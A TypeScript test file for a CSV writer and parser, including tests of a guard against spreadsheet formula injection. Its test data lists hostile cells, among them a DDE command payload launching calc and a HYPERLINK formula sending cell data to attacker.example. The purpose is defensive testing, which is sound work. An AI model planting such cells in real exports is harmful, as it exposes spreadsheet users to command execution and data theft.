import { Readable } from 'node:stream';
import should from 'should';
import { CsvError, CsvParser, csvField, csvLine, csvRecords, parseCsv, recordToObject, spreadsheetText, writeCsv } from '../../../nodes/lib/format/csv';
import { InputError, SvcError } from '../../../nodes/lib/util/errors';
import { readCsv, toCsv } from '../../../sandbox/csv';
import { formulaCells, spreadsheetCells } from '../../support/spreadsheet';

describe('csv', function () {
  describe('writing', function () {
    it('leaves plain fields alone and quotes commas, quotes and line breaks', function () {
      should(csvField('12 Main Street')).equal('12 Main Street');
      should(csvField('12 Main Street, Springfield')).equal('"12 Main Street, Springfield"');
      should(csvField('the "Old" Mill')).equal('"the ""Old"" Mill"');
      should(csvField('line one\nline two')).equal('"line one\nline two"');
      should(csvField('carriage\rreturn')).equal('"carriage\rreturn"');
      should(csvField('')).equal('');
    });

    it('quotes a field holding a semicolon or a tab, the separators other readers split on', function () {
      should(csvField('Carrer Major 1;2')).equal('"Carrer Major 1;2"');
      should(csvField('a\tb')).equal('"a\tb"');
    });

    it('ends every line with CRLF and writes the header first', function () {
      should(csvLine(['a', 'b,c'])).equal('a,"b,c"\r\n');
      should(writeCsv(['address'], [['x'], ['y, z']])).equal('address\r\nx\r\n"y, z"\r\n');
    });

    it('writes a lone empty field as "" so that it is not read as an empty line', function () {
      should(csvLine([''])).equal('""\r\n');
      should(csvLine(['', ''])).equal(',\r\n');
    });

    it('reads back exactly what it wrote, Unicode included', function () {
      const rows = [['Straße 5, Berlin'], ['東京都港区芝公園4-2-8'], ['"quoted", and\r\nsplit'], ['emoji 🏠'], ['']];
      should(parseCsv(writeCsv(['address'], rows))).eql([['address'], ...rows]);
    });
  });

  describe('reading', function () {
    it('reads quoted fields with doubled quotes, commas and line breaks', function () {
      should(parseCsv('address,city\r\n"1 ""A"" St, x","multi\nline"\r\nplain,b\r\n')).eql([
        ['address', 'city'],
        ['1 "A" St, x', 'multi\nline'],
        ['plain', 'b'],
      ]);
    });

    it('accepts LF, CR and CRLF line ends, a missing final line end and a byte-order mark', function () {
      should(parseCsv('\uFEFFa,b\nc,d\re,f\r\ng,h')).eql([
        ['a', 'b'],
        ['c', 'd'],
        ['e', 'f'],
        ['g', 'h'],
      ]);
      should(parseCsv(Buffer.from('\uFEFFaddress\nx', 'utf8'))).eql([['address'], ['x']]);
    });

    it('skips empty lines but keeps empty fields and a quoted empty field', function () {
      should(parseCsv('a,b\n\n,\n""\n\r\n')).eql([['a', 'b'], ['', ''], ['']]);
    });

    it('keeps stray quotes inside unquoted fields as text', function () {
      should(parseCsv('5" pipe,x\n')).eql([['5" pipe', 'x']]);
    });

    it('refuses an unterminated quoted field', function () {
      should(() => parseCsv('a\n"open field\n')).throw(CsvError);
    });

    it('refuses as an InputError of the SvcError family (INVALID_INPUT, nothing sent), its text a catalog text (issue 32 point 2)', function () {
      let thrown: unknown;
      try {
        parseCsv('a\n"open field\n');
      } catch (err) {
        thrown = err;
      }
      should(thrown).be.instanceOf(CsvError).and.be.instanceOf(InputError).and.be.instanceOf(SvcError);
      const error = thrown as CsvError;
      should(error).match({ code: 'INVALID_INPUT', notSent: true, name: 'CsvError', text: { key: 'error.csv.unterminated' } });
    });

    it('gives the same records however the input is split, even inside characters, quotes and CRLF', function () {
      const text = 'address,note\r\n"Straße ""7"", Köln","a\r\nb"\r\n東京,x\r\n';
      const bytes = Buffer.from(text, 'utf8');
      const expected = parseCsv(text);
      for (let size = 1; size <= 7; size++) {
        const parser = new CsvParser();
        const records: string[][] = [];
        for (let i = 0; i < bytes.length; i += size) records.push(...parser.write(bytes.subarray(i, i + size)));
        records.push(...parser.end());
        should(records).eql(expected, `chunk size ${size}`);
      }
    });

    it('reads records from a stream of bytes, one at a time', async function () {
      const text = 'address\r\n"a, 1"\r\nb\r\n';
      const chunks = [...Buffer.from(text)].map((byte) => Buffer.from([byte]));
      const records: string[][] = [];
      for await (const record of csvRecords(Readable.from(chunks))) records.push(record);
      should(records).eql([['address'], ['a, 1'], ['b']]);
    });

    it('refuses a stream that delivers something other than bytes or text', async function () {
      await should(
        (async () => {
          for await (const record of csvRecords(Readable.from([{ not: 'bytes' }]))) should.not.exist(record);
        })(),
      ).be.rejectedWith(CsvError);
    });

    it('turns a record into an object keyed by the header', function () {
      should(recordToObject(['address', 'id'], ['x', '7', 'extra'])).eql({ address: 'x', id: '7' });
      should(recordToObject(['address', 'id'], ['x'])).eql({ address: 'x', id: '' });
    });
  });

  describe('cells a spreadsheet shows as text (OWASP, CSV Injection; issue 27 point 6)', function () {
    /** Cells a spreadsheet would evaluate, read with `,` or with `;` as the separator. */
    const HOSTILE = [
      '=1+1',
      '+1+2',
      "-3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '\r\n=1+1',
      'Carrer Major 1;=HYPERLINK("http://attacker.example/?"&A1,"click")',
      'Carrer Major 1;"=1+1',
      'Carrer Major 1;""=1+1',
      'a;;-2+3',
      'line one\n@SUM(1)',
      'line one\r+1+2',
      'tab\t=1+1',
      '=1+2";=1+2',
      '=1+2\'" ;,=1+2',
    ];
    /** A file as the bulk node writes it: a number first (the row's index), the cell, a number after. */
    const fileOf = (cells: readonly string[]) => cells.map((cell, i) => csvLine([String(i), cell, '-33.8688'].map(spreadsheetText))).join('');

    it("puts a ' before a cell starting with any of OWASP's characters: =, +, -, @, tab, CR and LF", function () {
      for (const cell of ['=1+1', '+1+2', '-3+3', '@SUM(1)', '\t1', '\r1', '\n1']) should(spreadsheetText(cell)).equal(`'${cell}`, JSON.stringify(cell));
    });

    it('leaves plain numbers, negative ones included, and other text as they are', function () {
      for (const cell of ['-12.5', '+1', '1e-5', '-.5', '12 Main Street', 'Straße 5, Köln', "'quoted", 'a - b', '']) {
        should(spreadsheetText(cell)).equal(cell, JSON.stringify(cell));
      }
    });

    it("puts a ' where a ; tab or line break inside a cell is followed by a formula character", function () {
      should(spreadsheetText('Carrer Major 1;=HYPERLINK(x)')).equal("Carrer Major 1;'=HYPERLINK(x)");
      should(spreadsheetText('\r=1+1')).equal("'\r'=1+1");
      should(spreadsheetText('a;"=1')).equal('a;\'"=1');
      should(spreadsheetText('Flat 2\nChurch Lane')).equal('Flat 2\nChurch Lane');
      should(spreadsheetText('12 Main Street, -3')).equal('12 Main Street, -3');
      should(spreadsheetText('then\r\n=1')).equal("then\r\n'=1");
      should(spreadsheetText('then\r\n\r\n-1+1')).equal("then\r\n\r\n'-1+1");
    });

    it('keeps a line break inside a cell as it was: CRLF, CR and LF, one or several (issue 51 point 5)', function () {
      for (const cell of ['then\r\nleft', 'then\rleft', 'then\nleft', 'a\r\n\r\nb', 'a\n\r\rb', 'a;\r\nb', 'a\t\nb', 'x\r\n']) {
        should(spreadsheetText(cell)).equal(cell, JSON.stringify(cell));
      }
    });

    it("reads back every cell as written, line breaks, quotes and commas included, the guard's ' aside (issue 51 point 5)", function () {
      const cells: Array<[string, string]> = [
        ['then\r\nleft', 'then\r\nleft'],
        ['then\rleft', 'then\rleft'],
        ['then\nleft', 'then\nleft'],
        ['said "hi", then\r\nleft', 'said "hi", then\r\nleft'],
        ['"quoted"\r\n"again"', '"quoted"\r\n"again"'],
        ['a,b\r\nc,d\re,f\ng', 'a,b\r\nc,d\re,f\ng'],
        ['=1+1', "'=1+1"],
        ['=1+1\r\n=2+2', "'=1+1\r\n'=2+2"],
        ['\r\nleft', "'\r\nleft"],
        ['top\r\n\r\n@SUM(1)', "top\r\n\r\n'@SUM(1)"],
        ['-33.8688', '-33.8688'],
      ];
      const text = writeCsv(
        ['index', 'cell'],
        cells.map(([cell], i) => [String(i), spreadsheetText(cell)]),
      );
      should(parseCsv(text).slice(1)).eql(cells.map(([, written], i) => [String(i), written]));
      should(readCsv(text).slice(1)).eql(cells.map(([, written], i) => [String(i), written]));
      // The guard only ever adds a ', at the cell's start or before a formula character that starts a line or a ;- or tab-separated part.
      for (const [cell, written] of cells) {
        should(written.replace(/(^|[;\t\r\n])'(?=[=+\-@\t\r\n]|$)/g, '$1')).equal(cell, JSON.stringify(cell));
      }
      // Raw cells read back exactly.
      should(
        parseCsv(
          writeCsv(
            ['cell'],
            cells.map(([cell]) => [cell]),
          ),
        ).slice(1),
      ).eql(cells.map(([cell]) => [cell]));
    });

    it('no cell is a formula to a reader splitting on "," nor to one splitting on ";"', function () {
      const text = fileOf(HOSTILE);
      for (const separator of [',', ';'] as const) {
        should(formulaCells(spreadsheetCells(text, separator))).eql([], `separator ${separator}`);
      }
      // The unprotected file: both readers would run formulas (the check above can fail).
      const raw = HOSTILE.map((cell, i) => csvLine([String(i), cell, '-33.8688'])).join('');
      for (const separator of [',', ';'] as const) should(formulaCells(spreadsheetCells(raw, separator))).not.be.empty();
    });

    it('a "," reader gets every cell back whole, with its \' marks, and the numbers as numbers', function () {
      const rows = readCsv(fileOf(HOSTILE));
      should(rows.map((row) => row[1].replace(/'/g, ''))).eql(HOSTILE.map((cell) => cell.replace(/'/g, '')));
      should(rows.map((row) => row[2])).eql(HOSTILE.map(() => '-33.8688'));
    });
  });

  describe("against the sandbox's own CSV (written apart, RFC 4180 strict)", function () {
    const tricky = [
      ['address', 'note'],
      ['12 Main Street, Springfield', 'said "hi"'],
      ['Flat 2\nChurch Lane', ''],
      ['carriage\rreturn', '"'],
      ['', 'Straße 5, Köln 東京都'],
    ];

    it('the sandbox reads what the node writes', function () {
      should(readCsv(writeCsv(tricky[0], tricky.slice(1)))).eql(tricky);
      should(readCsv(writeCsv(['address'], [[''], ['x']]))).eql([['address'], [''], ['x']]);
    });

    it('the node reads what the sandbox writes', function () {
      should(parseCsv(toCsv(tricky))).eql(tricky);
    });

    it('the sandbox refuses what a strict service would', function () {
      for (const text of ['address\n"unterminated\n', 'a\nx"y\n', 'a\n"q"z\n', 'a\rb\n']) should(() => readCsv(text)).throw();
    });
  });
});
